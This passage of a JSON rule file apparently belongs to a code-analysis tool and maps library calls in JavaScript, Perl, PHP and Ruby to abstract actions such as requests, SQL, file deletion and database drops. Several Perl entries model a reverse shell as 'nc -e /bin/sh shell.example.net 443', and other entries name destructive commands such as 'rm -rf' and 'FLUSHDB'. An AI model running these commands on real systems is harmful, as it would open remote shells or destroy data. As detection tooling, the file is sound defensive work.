ody $:data $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:bod\
y $:data $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host \
$:body $:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:h\
ostname:host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:host\
name:host $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:\
json","ky.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"re\
quest GET $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:host\
name:host $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host\
 $:body $:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:ho\
st $:body $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body \
$:data $:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json\
 $1","superagent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $\
1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.\
patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagen\
t.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.p\
atch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.d\
elete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","supera\
gent.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $\
1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnect\
ion":"calls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decod\
e $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | \
made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"sp\
y $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.creat\
eSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.P\
ostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign\
:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":\
"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection \
$0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true ev\
al $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back dirents $0","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.S\
ervice":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.\
all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"fol\
der $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 \
append","install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=loc\
alhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":\
"emit $0 $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:contai\
ner value $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 \
returned","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned"\
,"listen":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"va\
lue $self","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql de\
lete-all rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where=\
{} run sql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-\
made:vm-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $al\
l","unshift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 h\
ost:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^tr\
ue$ run git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-store\
d program redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets\
:keys run sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run s\
ql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git c\
lean -n | if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","e\
xecCommand":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"\
run docker volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawU\
nsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0\
:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql\
 $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db\
","getDB":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop r\
un sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dro\
pDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase\
 run sql drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database ru\
n sql shutdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":fal\
se,"single_escapes":false,"quoting":"q","heredoc":"<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"none"},"program":"perl","blocks":"braces",\
"member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARG\
V\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"unknown":["STDIN"],"texts":{"$0":"./program.pl"},"rewrites":[["^&",""]\
],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"val\
ue .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print line","readline":"input","system":"if-sign:so\
cket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.sy\
stem":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | \
command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.e\
xample.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:soc\
ket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | c\
ommand $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm \
-rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run \
ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"\
open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"\
names .","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Per\
l.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made\
 mongo","MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods":{"do"\
:"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $all","\
pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"if-mad\
e:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-over POS\
T $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-made:mong\
o value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys r\
un sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8":"if-t\
ext write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folder $sel\
f","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":["/*",\
"*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","pattern\
s":false,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_key\
words":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment"},"sdks":["aws.","google.cloud.","stripe.","microsoftazure.","digitalocean\
v2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqsclient","stripeclient","mailchimpmarket\
ing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"rewrites":[["^(?:\\\\w+\\\\\
.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made\
 memcached","memcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","include":"include $0","require":"include $0\
","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0"\
,"proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s\
 $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_creat\
e":"made context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_file":"read $0","file_put_contents":"write $0 $1 $2","fopen":"open\
 $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-sign:repeats run fork","pcn\
tl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0","curl_setopt":"if-says:^D\
ELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELD\
S$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"dirname $0","getcwd":"value \
.","json_decode":"parse-json $0","fgets":"input","stream_get_contents":"input","readline":"input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0"\
,"recursivedirectoryiterator":"folder $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellar\
g":"value $0","escapeshellcmd":"value $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query"\
:"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql \
$0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.\
drop":"run sql drop-table $0","schema.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0",\
"base_path":"join . $0","app_path":"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesy\
stem":"made filesystem","file.deletedirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","c\
lient":"if-sign:http-client made rest $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell \
$0","process.fromshellcommandline":"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made res\
t","http.withheaders":"made rest","http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0"\
,"http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executeq\
uery":"sql $0","executeupdate":"sql $0","createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetab\
lesql":"made whole","getdroptablesql":"made whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dro\
pschema":"if-kept run sql drop-schema $owner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:re\
st request-over DELETE $0","remove":"if-made:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-ove\
r POST $0 $1:json:body","get":"if-made:rest request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","ge\
tdatabase":"if-made:mongo value $self","getcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored \
entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$\
 run php artisan migrate:fresh","flush":"if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $sel\
f $0","fwrite":"send $self $0","getpathname":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop\
-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"<<[~-]?\
(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"statements"},"program":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_op\
erators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"line\
s","ARGF":"lines"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"\
__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove\
_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"Fi\
leUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print lin\
e","print":"print text","gets":"input","readlines":"input","Rails.application":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql\
 drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-databas\
e db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.credentials":"secret","send":"invoke $0 $1..","public_send":\
"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","\
FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.ti\
nytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","system":"command $all","exec":"command $all","spawn":"command $all","IO.popen":"\
command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","Open3.popen3":"command $all","PTY.spawn":"comman\
d $all","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","binding.eval":"eval $0","Si\
dekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"made sidekiq","Sidekiq.Qu\
eue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock","MockRedis.new":"made \
mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries model","Mongo.Client.new":\
"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.with_name":"made mongo"\
,"Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql drop-database mongoid","M\
ongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open":"calls-back open $0 $1\
","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday.get":"request GET $0",\
"RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post":"request POST $0 $1 $\
:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:form","Faraday.post":"re\
quest POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body $:json $:form","Excon.\
post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELETE $0","Faraday.delete"\
:"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoeus.delete":"request DEL\
ETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"value $0","File.expand_path\
":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.foreach":"read $0","File\
.binread":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","Fi\
leUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm\
_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":\
"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","Fi\
leUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chm\
od -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File\
.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.gl\
ob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-\
back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $\
all"},"methods":{"write":"send $self $0","puts":"send $self $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0",\
"exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_\
send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-n\
ame calls-back made rows","update_all":"if-name run sql update-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destr\
oy!":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":\
"if-made:docker-volume run docker volume rm $self","open":"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_\
all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-\
all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-\
all rows | if-gets:keys run sql flush FLUSHDB | if-database if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flu\
sh FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","\
dup":"value $self","clone":"value $self","compact":"value $self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set"\
:"value $self","clear":"if-made:sidekiq run celery purge","database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql\
 drop-database db","exec!":"if-made:ssh shell $0","eval":"if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0\
","module_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql u\
pdate-all rows","reset":"if-says:^hard$ if-args:2 run git reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_eac\
h":"calls-back if-stored entries keys","rmtree":"if-text run rm -rf $self","children":"folder $self","each_child":"folder $self","read":"lines $self","gets":"if\
-list any-of $self","shift":"if-list any-of $self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 $1","each_pair":"if-map pairs $self","value\
s":"if-map values $self","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escap\
es":true,"quoting":"none","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"\
bare_calls":false,"function_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"texts":{"os.pwd":".",\
"os.home":"~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.tempo\
raryDirectory":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"rewrites":[["^(\
?:(?:std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","cons\
ole.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all",\
"table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value\
 $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asLis\
t":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"val\
ue $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"\
value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPat\
h":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0","URI.create":\
"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","ope\
ndir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"v\
alue $0","Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $\
all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":\
"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"joi\
n $all","path_join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","hom\
